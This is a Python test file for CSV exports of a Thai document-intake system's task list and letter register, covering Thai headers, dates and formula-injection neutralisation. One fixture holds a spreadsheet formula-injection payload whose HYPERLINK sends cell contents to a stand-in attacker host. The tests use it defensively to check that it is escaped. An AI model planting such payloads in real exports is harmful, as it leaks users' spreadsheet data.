"""CSV exports: task list and register read back; BOM, Thai headers, no formula injection."""

import csv
import datetime as dt
import io

import pytest

from docintake.errors import InputFileError
from docintake.export import write_atomic
from docintake.export.csvout import (
    FORMULA_STARTS,
    REGISTER_COLUMNS,
    TASK_COLUMNS,
    neutralise,
    register_csv,
    tasks_csv,
)
from docintake.export.rows import register_rows, task_rows
from docintake.models import ReceiptStamp
from docintake.registry import lifecycle, queries, store
from docintake.registry.testing import ACTOR, ingest_letters, letter, load_directory

DISTRICT = "ที่ว่าการอำเภอเมืองเพ็ญ"
NASTY = '=HYPERLINK("http://evil.example/?x="&A1, "คลิก")'
BOM = b"\xef\xbb\xbf"


@pytest.fixture
def db():
    db = store.open_db(":memory:")
    load_directory(db)
    ingest_letters(db, letter("ชย 0023.6/1478", "2025-05-28", deadline="2025-06-05", subject="ขอให้รายงาน"),
                   name="prov.txt")  # an enclosed-copy-only letter later; routed nowhere
    ingest_letters(db, letter("ชย 0023.14/1709", "2025-06-16", deadline="2025-06-20", issuer=DISTRICT,
                              to="นายก อบต. ทุกแห่ง", subject="ขอให้รายงาน, ด่วน\n\"บรรทัดสอง\"",
                              urgency="ด่วนที่สุด", copies=[("ชย 0023.6/1478", "2025-05-28")],
                              receipt=ReceiptStamp(number="๔๘๙", date=dt.date(2025, 6, 18))), name="dist.txt")
    ingest_letters(db, letter("ชย 0023.14/1800", "2025-06-25", deadline="2025-07-15", issuer=DISTRICT,
                              to="นายกองค์การบริหารส่วนตำบลโนนสูง", subject=NASTY,
                              directives=["-1+1 ให้รายงาน", "@SUM(A1)"]), name="nasty.txt")
    ingest_letters(db, letter("ชย 0023.14/1900", "2025-06-26", issuer=DISTRICT,
                              to="นายกองค์การบริหารส่วนตำบลโนนสูง", subject="ไม่มีกำหนด"), name="none.txt")
    return db


def _read(data: bytes) -> list[list[str]]:
    assert data.startswith(BOM) and not data.startswith(BOM * 2)
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def _noon_song(db):
    return queries.find_org(db, "อบต.โนนสูง")


@pytest.mark.parametrize("value,expected", [
    ("=1+1", "'=1+1"), ("+66 81 234 5678", "'+66 81 234 5678"), ("-", "'-"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"), ("\r=1", "'\r=1"), ("ชย 0023.14/1709", "ชย 0023.14/1709"), ("a=b", "a=b"), (3, 3), ("", ""),
], ids=["equals", "plus", "minus", "at", "tab", "cr", "doc-no", "inner-equals", "int", "empty"])
def test_neutralise(value, expected):
    assert neutralise(value) == expected


def test_task_csv_reads_back_with_thai_headers_and_iso_beside(db):
    rows = task_rows(db, _noon_song(db), "open")
    table = _read(tasks_csv(rows, as_of=dt.date(2025, 6, 30)))
    assert tuple(table[0]) == TASK_COLUMNS
    for required in ("ลำดับ", "ที่", "ลงวันที่", "จาก", "ถึง", "เรื่อง", "การปฏิบัติ", "กำหนดส่ง", "สถานะ", "หมายเหตุ"):
        assert required in table[0]
    records = [dict(zip(table[0], r)) for r in table[1:]]
    assert [r["ที่"] for r in records] == ["ชย ๐๐๒๓.๑๔/๑๗๐๙", "ชย ๐๐๒๓.๑๔/๑๘๐๐", "ชย ๐๐๒๓.๑๔/๑๙๐๐"]
    first = records[0]
    assert (first["ลำดับ"], first["กำหนดส่ง"], first["กำหนดส่ง (ISO)"]) == ("1", "๒๐ มิ.ย. ๒๕๖๘", "2025-06-20")
    assert (first["ลงวันที่"], first["ลงวันที่ (ISO)"]) == ("๑๖ มิ.ย. ๒๕๖๘", "2025-06-16")
    assert first["สถานะ"] == "เกินกำหนด" and records[1]["สถานะ"] == "รอดำเนินการ"
    assert first["เรื่อง"] == 'ขอให้รายงาน, ด่วน\n"บรรทัดสอง"'  # comma, quote, newline survive
    assert first["อปท."] == "อบต.โนนสูง" and first["ชั้นความเร็ว"] == "ด่วนที่สุด"
    assert "ต้นเรื่อง ชย ๐๐๒๓.๖/๑๔๗๘ กำหนด ๕ มิ.ย. ๒๕๖๘" in first["หมายเหตุ"]
    assert records[2]["กำหนดส่ง"] == "" and records[2]["กำหนดส่ง (ISO)"] == ""  # no deadline: empty, not "-"


def test_no_cell_can_run_as_a_formula(db):
    table = _read(tasks_csv(task_rows(db, None, "all"), arabic=True))
    cells = [c for row in table[1:] for c in row]
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
    nasty = next(dict(zip(table[0], r)) for r in table[1:] if "1800" in r[1])
    assert nasty["เรื่อง"] == "'" + NASTY
    assert nasty["การปฏิบัติ"] == "'-1+1 ให้รายงาน @SUM(A1)"


@pytest.mark.parametrize("status,expected", [("open", 2), ("done", 1), ("all", 3)], ids=["open", "done", "all"])
def test_task_status_filter(db, status, expected):
    org = _noon_song(db)
    first = task_rows(db, org, "open")[0]
    lifecycle.done(db, first.task_id, ACTOR, note="ส่งแล้ว")
    rows = task_rows(db, org, status)
    assert len(rows) == expected
    if status == "done":
        record = dict(zip(TASK_COLUMNS, _read(tasks_csv(rows))[1]))
        assert (record["สถานะ"], record["หมายเหตุ"][:7], record["วันที่เสร็จ"], record["วันที่เสร็จ (ISO)"]) == (
            "ดำเนินการแล้ว", "ส่งแล้ว", "๑ ก.ค. ๒๕๖๘", "2025-07-01")


def test_all_laos_when_none_given(db):
    laos = {r.lao for r in task_rows(db, None, "open")}
    assert laos == {"อบต.โนนสูง", "อบต.บ้านใหม่", "อบต.หนองไผ่"}  # ทุกแห่ง of อบต.: not the เทศบาล


def test_register_lists_letters_received_as_originals(db):
    ingest_letters(db, letter("ชย 0023.14/2000", "2025-06-27", copies=[("ชย 0023.6/9", "2025-06-01")],
                              pages=(1, 1)),
                   letter("ชย 0023.6/9", "2025-06-01", pages=(2, 2)), name="bundle.txt")
    table = _read(register_csv(register_rows(db), arabic=True))
    assert tuple(table[0]) == REGISTER_COLUMNS
    records = [dict(zip(table[0], r)) for r in table[1:]]
    numbers = [r["ที่"] for r in records]
    assert "ชย 0023.6/9" not in numbers  # only an enclosed copy in bundle.txt
    dist = next(r for r in records if r["ที่"] == "ชย 0023.14/1709")
    assert (dist["เลขทะเบียนรับ"], dist["วันที่รับ"], dist["วันที่รับ (ISO)"]) == ("489", "18 มิ.ย. 2568", "2025-06-18")
    assert "ส่งต่อหนังสือ ชย 0023.6/1478" in dist["หมายเหตุ"] and "ด่วนที่สุด" in dist["หมายเหตุ"]
    nasty = next(r for r in records if r["ที่"] == "ชย 0023.14/1800")
    assert nasty["วันที่รับ (ISO)"] == "2025-07-01" and "วันที่นำเข้าระบบ" in nasty["หมายเหตุ"]
    assert nasty["ไฟล์สแกน"] == "nasty.txt"
    assert [r["ลำดับ"] for r in records] == [str(i) for i in range(1, len(records) + 1)]
    assert records[0]["ที่"] == "ชย 0023.14/1709"  # received 18 Jun (stamp) before the others (1 Jul)


def test_write_atomic_replaces_and_refuses_a_folder(tmp_path):
    out = tmp_path / "sub" / "tasks.csv"
    write_atomic(out, b"one")
    write_atomic(out, b"two")
    assert out.read_bytes() == b"two" and [p.name for p in out.parent.iterdir()] == ["tasks.csv"]
    with pytest.raises(InputFileError, match="folder"):
        write_atomic(tmp_path, b"x")


REGISTER_BOOK = ("เลขทะเบียนรับ", "วันที่รับ", "ที่", "ลงวันที่", "จาก", "ถึง", "เรื่อง", "การปฏิบัติ", "หมายเหตุ")
TASK_LIST = ("ลำดับ", "ที่", "ลงวันที่", "จาก", "ถึง", "เรื่อง", "การปฏิบัติ", "กำหนดส่ง", "สถานะ", "หมายเหตุ")


@pytest.mark.parametrize("columns,book", [(REGISTER_COLUMNS, REGISTER_BOOK), (TASK_COLUMNS, TASK_LIST)],
                         ids=["register", "tasks"])
def test_column_tables_follow_the_register_book(columns, book):
    assert len(set(columns)) == len(columns)
    positions = [columns.index(c) for c in book]  # every column of the paper register, in its order
    assert positions == sorted(positions)
    for header in columns:
        if header.endswith("(ISO)"):  # an ISO column stands right beside its Thai-form one
            assert columns[columns.index(header) - 1] == header[: -len(" (ISO)")]


def test_thai_words_are_clean():
    from docintake.export.csvout import NOTE_WORDS, STATUS_WORDS
    from docintake.export.ics import WORDS

    words = [*TASK_COLUMNS, *REGISTER_COLUMNS, *STATUS_WORDS.values(), *NOTE_WORDS.values(), *WORDS.values()]
    for word in words:
        assert "\u0e4d\u0e32" not in word, f"split sara am in {word!r}"
        assert word == " ".join(word.split()) and not word.startswith(FORMULA_STARTS), word
    assert set(STATUS_WORDS) == {"open", "done", "overdue"}


def test_export_file_is_readable_by_others_under_the_usual_umask(tmp_path):
    """A task list goes to colleagues: not the 0600 of a private temp file."""
    import os

    from docintake.export import write_atomic

    old = os.umask(0o022)
    try:
        write_atomic(tmp_path / "tasks.csv", b"x")
    finally:
        os.umask(old)
    assert (tmp_path / "tasks.csv").stat().st_mode & 0o777 == 0o644
